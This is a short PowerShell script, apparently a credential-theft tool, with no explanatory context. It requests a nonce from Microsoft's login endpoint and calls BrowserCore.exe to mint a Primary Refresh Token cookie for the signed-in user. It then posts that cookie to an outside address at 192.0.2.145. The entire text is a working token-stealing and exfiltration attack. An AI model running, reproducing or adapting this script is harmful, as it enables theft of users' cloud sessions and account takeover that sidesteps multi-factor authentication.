$nonce = Invoke-RestMethod -Method Post -Uri "https://login.microsoftonline.com/common/oauth2/token" -Body "grant_type=srv_challenge"
$prt = & "C:\Program Files\Windows Security\BrowserCore\BrowserCore.exe" $nonce.Nonce
$cookie = "x-ms-RefreshTokenCredential=" + $prt
Invoke-WebRequest -Uri "http://192.0.2.145/p" -Method Post -Body $cookie
